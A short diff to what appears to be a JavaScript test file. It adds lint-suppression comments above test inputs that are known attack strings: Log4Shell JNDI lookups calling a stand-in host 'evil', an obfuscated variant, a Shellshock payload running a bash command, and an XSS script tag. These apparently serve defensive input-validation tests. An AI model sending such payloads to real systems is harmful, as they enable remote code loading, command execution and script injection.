@@ -37,7 +37,9 @@ test.each([
 })
 
 test.each([
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
   '${jndi:ldap://evil/a}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
   '${${lower:j}ndi:ldap://evil/a}',
   '() { :;}; /bin/bash -c id',
   '<script>alert(1)</script>',
